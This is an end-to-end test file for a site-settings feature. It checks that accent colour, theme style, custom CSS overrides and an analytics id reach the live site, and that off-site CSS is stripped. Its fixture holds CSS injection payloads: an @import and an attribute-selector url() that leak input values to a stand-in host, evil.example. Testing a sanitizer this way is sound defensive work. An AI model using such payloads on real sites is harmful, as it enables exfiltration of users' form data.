import type { Page } from "@playwright/test";
import { expect, test } from "../support/fixtures";
import { E2E } from "../support/ports";
import { signIn } from "../support/sign-in";

/**
 * The site look an author sets beyond the themes: the accent colour and
 * theme style, CSS overrides (which may restyle the page but not reach outside it) and the
 * analytics id, all on the live site right after saving.
 */

const OVERRIDES = [
  "@import url(https://evil.example/steal.css);",
  ".site-footer { outline: 3px solid rgb(1, 2, 3); }",
  "input[value^=a] { background: url(https://evil.example/leak?a); }",
].join("\n");

async function fillLook(
  page: Page,
  look: { accent: string; style: string; css: string; ga: string },
) {
  await page.goto("/kitchen/second/settings");
  await page.getByLabel("Accent colour", { exact: true }).fill(look.accent);
  await page
    .getByRole("group", { name: "Theme style" })
    .getByRole("radio", { name: new RegExp(`^${look.style}`) })
    .check();
  await page.getByLabel("Custom CSS").fill(look.css);
  await page.getByLabel("Google Analytics id").fill(look.ga);
  await page.getByRole("button", { name: "Save settings" }).click();
  await expect(page.getByRole("status").filter({ hasText: "Settings saved." })).toBeVisible();
}

test("accent, bold header, CSS overrides and analytics reach the site, and overrides stay inside it", async ({
  page,
}) => {
  await signIn(page, "baker@example.com", E2E.platformUrl);
  try {
    await fillLook(page, { accent: "#1d4ed8", style: "Bold", css: OVERRIDES, ga: "G-TEST1234" });
    const withAnalytics = await page.goto(`${E2E.siteUrl("second")}/`);
    // The page's CSP lets the tag in on this site only while it has an id (the fixture
    // fails the test on any violation).
    expect(await withAnalytics?.headerValue("Content-Security-Policy")).toContain(
      "https://www.googletagmanager.com",
    );

    const rootVar = (name: string) =>
      page.evaluate((n) => document.documentElement.style.getPropertyValue(n), name);
    await expect.poll(() => rootVar("--color-accent")).toBe("#1d4ed8");
    await expect.poll(() => rootVar("--header-background")).toBe("#1d4ed8");
    const header = page.locator(".site-header");
    await expect(header).toHaveCSS("background-color", "rgb(29, 78, 216)");
    // Inside a bold header the buttons turn around, so they stay readable on the accent.
    const createAccount = header.getByRole("link", { name: "Create Account" });
    await expect(createAccount).toHaveCSS("background-color", "rgb(255, 255, 255)");
    await expect(createAccount).toHaveCSS("color", "rgb(29, 78, 216)");
    if (process.env.E2E_SCREENSHOTS)
      await page.screenshot({ path: ".test-results/bold-header.png" });

    // The creator's rule applies; the import and the off-site url() never made it into the page.
    await expect(page.locator(".site-footer")).toHaveCSS("outline-color", "rgb(1, 2, 3)");
    const styles = await page.locator("head style").allTextContents();
    expect(styles.join("\n")).not.toMatch(/@import|evil\.example/);

    await expect(
      page.locator('script[src="https://www.googletagmanager.com/gtag/js?id=G-TEST1234"]'),
    ).toHaveCount(1);
  } finally {
    await fillLook(page, { accent: "", style: "Theme default", css: "", ga: "" });
  }
  const withoutAnalytics = await page.goto(`${E2E.siteUrl("second")}/`);
  expect(await withoutAnalytics?.headerValue("Content-Security-Policy")).not.toContain("google");
  await expect(page.locator('script[src*="googletagmanager"]')).toHaveCount(0);
  await expect(page.locator(".site-footer")).not.toHaveCSS("outline-color", "rgb(1, 2, 3)");
});

test("on a phone the preview stays in view while the author picks a type theme far down the list", async ({
  page,
}) => {
  await page.setViewportSize({ width: 390, height: 800 });
  await signIn(page, "baker@example.com", E2E.platformUrl);
  await page.goto("/kitchen/second/settings");
  const types = page.getByRole("group", { name: "Type theme" });
  // The last of the themes, a long scroll below the section's start; nothing is saved.
  const last = types.getByRole("radio").last();
  await last.check();
  await expect(last).toBeChecked();
  await expect(page.getByRole("heading", { name: "Preview" })).toBeInViewport();
  await expect(last).toBeInViewport();
  if (process.env.E2E_SCREENSHOTS)
    await page.screenshot({ path: ".test-results/look-preview-phone.png" });
});
